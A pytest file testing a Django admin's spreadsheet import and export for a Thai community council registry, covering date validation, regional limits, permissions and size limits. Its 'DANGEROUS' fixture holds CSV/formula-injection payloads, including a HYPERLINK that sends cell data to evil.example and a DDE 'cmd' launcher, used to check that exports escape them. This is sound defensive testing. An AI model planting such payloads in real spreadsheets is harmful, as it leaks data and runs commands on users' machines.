"""Spreadsheet import and export of the council registry through the admin's two-step flow."""

import csv
import datetime as dt
import io

import openpyxl
import openpyxl.xml
import pytest
from django.contrib.auth.models import Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.template.defaultfilters import filesizeformat
from django.urls import reverse
from django.utils.html import escape
from django.utils.translation import gettext

from councils.buddhist_era import validate_be_year
from councils.imports import (
    CommunityOrganizationResource,
    CouncilMemberResource,
    CouncilResource,
)
from councils.models import Council, CouncilMember
from councils.spreadsheets import formats
from tests.accounts_helpers import verified_client
from tests.factories import (
    OTHER_PROVINCE_TAMBON,
    TAMBON_MAE_SAI,
    CouncilFactory,
    MemberFactory,
    OrganizationFactory,
    UserFactory,
)

XLSX, CSV = "0", "1"  # the format choices, in the order of formats.FORMATS
COUNCIL_HEADERS = ["รหัสตำบล", "ชื่อสภา", "เลขที่จดแจ้งจัดตั้ง", "วันที่จดแจ้งจัดตั้ง", "สถานะ", "โทรศัพท์"]
MEMBER_HEADERS = [
    "รหัสตำบล",
    "คำนำหน้านาม",
    "ชื่อ",
    "นามสกุล",
    "ประเภทสมาชิก",
    "ตำแหน่ง",
    "หมู่ที่",
    "วันที่ได้รับคัดเลือก",
]


@pytest.fixture
def charlie(codi_staff, client_for):
    return verified_client(codi_staff)


def xlsx_upload(headers, rows, name="registry.xlsx") -> SimpleUploadedFile:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(headers)
    for row in rows:
        sheet.append(row)
    content = io.BytesIO()
    book.save(content)
    return SimpleUploadedFile(name, content.getvalue())


def upload(client, model: str, file, file_format=XLSX):
    return client.post(
        reverse(f"admin:councils_{model}_import"),
        {"resource": "0", "format": file_format, "import_file": file},
    )


def confirm(client, model: str, preview):
    """Press "Confirm import" on the preview page."""
    confirm_form = preview.context["confirm_form"]
    assert confirm_form is not None, "the preview has errors"
    return client.post(reverse(f"admin:councils_{model}_process_import"), confirm_form.initial)


def errors_by_row(response) -> dict[int, dict[str, list[str]]]:
    """Errors as the page shows them: by spreadsheet row (header is row 1), then by column."""
    return {row.number + 1: row.error_dict for row in response.context["result"].invalid_rows}


def export(client, model: str, resource_class, file_format: str) -> bytes:
    prefix = resource_class.__name__.lower()
    fields = {f"{prefix}_{name}": "on" for name in resource_class().get_export_order()}
    response = client.post(
        reverse(f"admin:councils_{model}_export"),
        {"resource": "0", "format": file_format, **fields},
    )
    assert response.status_code == 200, response.content[:500]
    return response.content


def test_xlsx_parsing_uses_defusedxml():
    assert openpyxl.xml.DEFUSEDXML is True


def test_councils_are_imported_after_confirmation(charlie):
    file = xlsx_upload(
        COUNCIL_HEADERS,
        [
            ["570902", "สภาองค์กรชุมชนตำบลห้วยไคร้", "ชร 0002/2552", "1/6/2552", "", "053-123-456"],
            [570903, "สภาองค์กรชุมชนตำบลเกาะช้าง", "ชร 0003/2552", "2552-06-01", "", ""],
        ],
    )
    preview = upload(charlie, "council", file)
    assert preview.status_code == 200
    assert not Council.objects.exists()  # the preview writes nothing

    response = confirm(charlie, "council", preview)
    assert response.status_code == 302
    huai_khrai, ko_chang = Council.objects.order_by("subdistrict_id")
    assert huai_khrai.registered_on == dt.date(2009, 6, 1)  # B.E. 2552
    assert ko_chang.subdistrict_id == "570903"
    assert ko_chang.registered_on == dt.date(2009, 6, 1)
    assert huai_khrai.status == Council.Status.ACTIVE


def test_one_bad_row_writes_nothing_and_names_its_row_and_column(charlie):
    file = xlsx_upload(
        COUNCIL_HEADERS,
        [
            ["570902", "สภาองค์กรชุมชนตำบลห้วยไคร้", "", "1/6/2552", "", ""],
            ["570903", "สภาองค์กรชุมชนตำบลเกาะช้าง", "", "1/6/2009", "", ""],
            ["570904", "สภาองค์กรชุมชนตำบลโป่งผา", "", "1/6/2552", "", ""],
        ],
    )
    response = upload(charlie, "council", file)

    assert response.context.get("confirm_form") is None
    assert not Council.objects.exists()
    try:
        validate_be_year(2009)
    except Exception as error:
        ce_year_message = error.messages[0]
    assert errors_by_row(response) == {3: {"วันที่จดแจ้งจัดตั้ง": [ce_year_message]}}
    page = response.content.decode()
    assert "<td>3</td>" in page
    assert "<td>วันที่จดแจ้งจัดตั้ง</td>" in page
    assert escape(ce_year_message) in page


def test_every_bad_row_is_reported(charlie):
    file = xlsx_upload(
        COUNCIL_HEADERS,
        [
            ["5709", "สภาองค์กรชุมชน", "", "", "", ""],
            ["570902", "", "", "31/2/2568", "ยุบ", ""],
        ],
    )
    errors = errors_by_row(upload(charlie, "council", file))
    assert set(errors) == {2, 3}
    assert set(errors[2]) == {"รหัสตำบล"}
    assert set(errors[3]) == {"ชื่อสภา", "วันที่จดแจ้งจัดตั้ง", "สถานะ"}


def test_a_date_cell_holding_a_christian_era_year_is_refused_not_shifted(charlie):
    file = xlsx_upload(COUNCIL_HEADERS, [["570902", "สภา", "", dt.datetime(2025, 3, 15), "", ""]])
    errors = errors_by_row(upload(charlie, "council", file))
    assert list(errors[2]) == ["วันที่จดแจ้งจัดตั้ง"]
    assert "2025" in errors[2]["วันที่จดแจ้งจัดตั้ง"][0]


def test_a_row_for_a_council_outside_the_region_is_refused(charlie, far_council):
    file = xlsx_upload(
        COUNCIL_HEADERS,
        [
            ["570902", "สภาองค์กรชุมชนตำบลห้วยไคร้", "", "", "", ""],
            [OTHER_PROVINCE_TAMBON, "ชื่อใหม่ที่ไม่ควรเข้า", "", "", "", ""],
        ],
    )
    response = upload(charlie, "council", file)

    outside = gettext(
        "Tambon %(code)s is outside the area you administer; this file may only change "
        "councils in your area."
    ) % {"code": OTHER_PROVINCE_TAMBON}
    assert errors_by_row(response) == {3: {"รหัสตำบล": [outside]}}
    assert response.context.get("confirm_form") is None
    far_council.refresh_from_db()
    assert far_council.name == "สภาองค์กรชุมชนตำบลท่าตะเภา"
    assert not Council.objects.filter(subdistrict_id="570902").exists()


def test_members_of_a_council_outside_the_region_are_refused(charlie, council, far_council):
    representative = CouncilMember.Seat.REPRESENTATIVE.value  # the code is accepted too
    file = xlsx_upload(
        MEMBER_HEADERS,
        [
            [TAMBON_MAE_SAI, "นาง", "บุญมา", "แก้วมณี", representative, "", 3, "15/1/2567"],
            [OTHER_PROVINCE_TAMBON, "นาย", "สมชาย", "ทองดี", representative, "", 2, "15/1/2567"],
        ],
    )
    response = upload(charlie, "councilmember", file)
    assert list(errors_by_row(response)) == [3]
    assert list(errors_by_row(response)[3]) == ["รหัสตำบล"]
    assert not CouncilMember.objects.exists()


def test_member_seat_rules_count_the_rows_above_in_the_same_file(charlie, council):
    representative = str(CouncilMember.Seat.REPRESENTATIVE.label)
    rows = [
        [TAMBON_MAE_SAI, "นาง", f"สมาชิก{n}", "ทองดี", representative, "", 3, "15/1/2567"]
        for n in range(5)
    ]
    response = upload(charlie, "councilmember", xlsx_upload(MEMBER_HEADERS, rows))
    # Four representatives per village (s.5): the fifth row, spreadsheet row 6, is refused.
    assert list(errors_by_row(response)) == [6]
    assert list(errors_by_row(response)[6]) == ["หมู่ที่"]
    assert not CouncilMember.objects.exists()


def test_confirming_writes_nothing_when_a_row_has_turned_invalid(charlie, council):
    chair = str(CouncilMember.Role.CHAIR.label)
    representative = str(CouncilMember.Seat.REPRESENTATIVE.label)
    file = xlsx_upload(
        MEMBER_HEADERS,
        [
            [TAMBON_MAE_SAI, "นาง", "บุญมา", "แก้วมณี", representative, "", 3, "15/1/2567"],
            [TAMBON_MAE_SAI, "นาย", "ประยูร", "ศรีสุข", representative, chair, 4, "15/1/2567"],
        ],
    )
    preview = upload(charlie, "councilmember", file)
    # Between the preview and the confirmation, someone records a chair in the admin.
    # (Named, so that the factory's round of names never makes it a row of the file.)
    MemberFactory(
        council=council, role=CouncilMember.Role.CHAIR, village_no=5,
        first_name="สมศรี", last_name="ใจดี",
    )  # fmt: skip

    response = confirm(charlie, "councilmember", preview)
    assert response.status_code == 200
    assert list(errors_by_row(response)) == [3]
    assert list(errors_by_row(response)[3]) == ["ตำแหน่ง"]
    assert CouncilMember.objects.count() == 1  # only the chair recorded meanwhile


def test_a_file_without_the_key_columns_is_refused_once(charlie):
    file = xlsx_upload(["ชื่อสภา"], [["สภาองค์กรชุมชนตำบลห้วยไคร้"]])
    response = upload(charlie, "council", file)
    result = response.context["result"]
    assert result.has_errors()
    assert not result.invalid_rows
    assert "รหัสตำบล" in str(result.base_errors[0].error)
    assert not Council.objects.exists()


def test_an_oversized_file_is_refused_before_it_is_parsed(charlie, settings, monkeypatch):
    settings.IMPORT_MAX_BYTES = 1000
    parsed = []
    monkeypatch.setattr(formats.XLSX, "create_dataset", lambda self, data: parsed.append(data))
    file = SimpleUploadedFile("big.xlsx", b"x" * 1001)

    response = upload(charlie, "council", file)

    assert response.status_code == 200
    expected = gettext(
        "The file is %(size)s; the largest file that can be imported is %(limit)s. "
        "Split it into smaller files."
    ) % {"size": filesizeformat(1001), "limit": filesizeformat(1000)}
    assert response.context["form"].errors["import_file"] == [expected]
    assert parsed == []


def test_a_spreadsheet_that_unpacks_too_large_is_refused(charlie, settings):
    settings.IMPORT_MAX_BYTES = 20_000
    rows = [["570902", "ก" * 2000, "", "", "", ""]] * 100  # 600 kB unpacked; compresses well
    file = xlsx_upload(COUNCIL_HEADERS, rows)
    assert file.size < 20_000
    response = upload(charlie, "council", file)
    assert "import_file" in response.context["form"].errors


@pytest.fixture
def clerk(db):
    """A staff member of the northern office who may keep councils but not import or export."""
    from councils.access import Role
    from councils.geography import Region
    from tests.factories import AssignmentFactory

    user = UserFactory(username="clerk", is_staff=True)
    AssignmentFactory(user=user, role=Role.CODI_REGIONAL, area_code="", region=Region.NORTH)
    user.user_permissions.set(
        Permission.objects.filter(
            content_type__app_label="councils",
            codename__in=["view_council", "add_council", "change_council"],
        )
    )
    return user


@pytest.mark.parametrize(
    ("url_name", "method"),
    [
        ("admin:councils_council_import", "get"),
        ("admin:councils_council_import", "post"),
        ("admin:councils_council_process_import", "post"),
        ("admin:councils_council_import_template", "get"),
        ("admin:councils_council_export", "get"),
        ("admin:councils_council_export", "post"),
    ],
)
def test_import_and_export_need_their_own_permissions(clerk, client_for, url_name, method):
    client = verified_client(clerk)
    assert client.get(reverse("admin:councils_council_changelist")).status_code == 200
    response = getattr(client, method)(reverse(url_name))
    assert response.status_code == 403


def test_staff_with_the_permissions_reach_import_and_export(charlie):
    assert charlie.get(reverse("admin:councils_council_import")).status_code == 200
    assert charlie.get(reverse("admin:councils_council_export")).status_code == 200


DANGEROUS = {
    "name": '=HYPERLINK("http://evil.example/"&A1,"คลิก")',
    "registration_number": "@SUM(1+1)",
    "office_address": "+cmd|' /C calc'!A0",
    "phone": "-2+3",
}


@pytest.fixture
def dangerous_council(db):
    return CouncilFactory(subdistrict_id=TAMBON_MAE_SAI, **DANGEROUS)


def test_xlsx_export_escapes_formulae(charlie, dangerous_council):
    content = export(charlie, "council", CouncilResource, XLSX)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    header = [cell.value for cell in sheet[1]]
    row = dict(zip(header, sheet[2], strict=True))
    assert row["ชื่อสภา"].value == "'" + DANGEROUS["name"]
    assert row["เลขที่จดแจ้งจัดตั้ง"].value == "'" + DANGEROUS["registration_number"]
    assert row["ที่ตั้งสำนักงาน"].value == "'" + DANGEROUS["office_address"]
    assert row["โทรศัพท์"].value == "'" + DANGEROUS["phone"]
    assert all(cell.data_type != "f" for cell in sheet[2])
    assert row["รหัสตำบล"].value == TAMBON_MAE_SAI
    assert row["วันที่จดแจ้งจัดตั้ง"].value == "1/6/2552"  # B.E.
    assert row["วันที่ยุบเลิก"].value is None  # an empty cell, not "None"


def test_xlsx_export_keeps_numbers_as_numbers(charlie, council):
    OrganizationFactory(council=council, village_no=3, member_count=35)
    content = export(charlie, "communityorganization", CommunityOrganizationResource, XLSX)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    row = dict(zip([cell.value for cell in sheet[1]], sheet[2], strict=True))
    assert row["หมู่ที่"].value == 3
    assert row["จำนวนสมาชิก"].value == 35
    assert row["รหัสตำบล"].value == TAMBON_MAE_SAI  # a code stays text


def test_csv_export_escapes_formulae_and_keeps_plain_numbers(charlie, council):
    MemberFactory(council=council, first_name="\tซ่อน", last_name="@ทองดี", phone="+66812345678")
    content = export(charlie, "councilmember", CouncilMemberResource, CSV)
    assert content.startswith(b"\xef\xbb\xbf")  # a BOM, so Excel reads the Thai
    header, row = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    cells = dict(zip(header, row, strict=True))
    assert cells["ชื่อ"] == "'\tซ่อน"
    assert cells["นามสกุล"] == "'@ทองดี"
    assert cells["โทรศัพท์"] == "+66812345678"  # a plain number cannot run anything
    assert cells["หมู่ที่"].isdigit()


def test_export_holds_only_the_staff_members_region(charlie, council, far_council):
    content = export(charlie, "council", CouncilResource, CSV)
    text = content.decode("utf-8-sig")
    assert council.name in text
    assert far_council.name not in text


def test_an_exported_file_imports_back_unchanged(charlie, dangerous_council):
    content = export(charlie, "council", CouncilResource, XLSX)
    preview = upload(charlie, "council", SimpleUploadedFile("back.xlsx", content))
    confirm(charlie, "council", preview)
    dangerous_council.refresh_from_db()
    for field, value in DANGEROUS.items():
        assert getattr(dangerous_council, field) == value
    assert Council.objects.count() == 1


def test_a_windows_thai_csv_imports(charlie):
    text = "รหัสตำบล,ชื่อสภา,วันที่จดแจ้งจัดตั้ง\r\n570902,สภาองค์กรชุมชนตำบลห้วยไคร้,1/6/2552\r\n"
    file = SimpleUploadedFile("councils.csv", text.encode("cp874"))
    confirm(charlie, "council", upload(charlie, "council", file, CSV))
    assert Council.objects.get().name == "สภาองค์กรชุมชนตำบลห้วยไคร้"


def test_template_file_has_the_headers_and_explains_each_column(charlie):
    import_page = charlie.get(reverse("admin:councils_councilmember_import")).content.decode()
    template_url = reverse("admin:councils_councilmember_import_template")
    assert f'href="{template_url}"' in import_page

    response = charlie.get(template_url)
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith('.xlsx"')
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    data, notes = book.worksheets
    columns = [column.column_name for column in CouncilMemberResource().columns()]
    assert [cell.value for cell in data[1]] == columns
    assert data.max_row == 1  # headers only: nothing that would import by mistake
    assert all(cell.comment for cell in data[1])
    explained = [row[0] for row in notes.iter_rows(min_row=2, values_only=True)]
    assert explained == columns
    assert all(row[2] for row in notes.iter_rows(min_row=2, values_only=True))


def test_the_empty_template_imports_as_nothing(charlie):
    template = charlie.get(reverse("admin:councils_council_import_template")).content
    response = upload(charlie, "council", SimpleUploadedFile("template.xlsx", template))
    assert response.status_code == 200
    assert not Council.objects.exists()


def test_a_member_is_linked_to_the_organization_named_in_the_file(charlie, council):
    savers = OrganizationFactory(council=council, name="กลุ่มออมทรัพย์บ้านป่าซาง")
    representative = CouncilMember.Seat.REPRESENTATIVE.value
    headers = [*MEMBER_HEADERS, "องค์กรที่เป็นผู้แทน"]
    row = [TAMBON_MAE_SAI, "นาง", "บุญมา", "แก้วมณี", representative, "", 3, "15/1/2567"]

    unknown = upload(charlie, "councilmember", xlsx_upload(headers, [[*row, "กลุ่มที่ไม่มีในทะเบียน"]]))
    assert list(errors_by_row(unknown)[2]) == ["องค์กรที่เป็นผู้แทน"]

    preview = upload(charlie, "councilmember", xlsx_upload(headers, [[*row, savers.name]]))
    confirm(charlie, "councilmember", preview)
    member = CouncilMember.objects.get()
    assert member.organization == savers
    assert member.term_ends_on == dt.date(2028, 1, 15)  # four years (s.8)
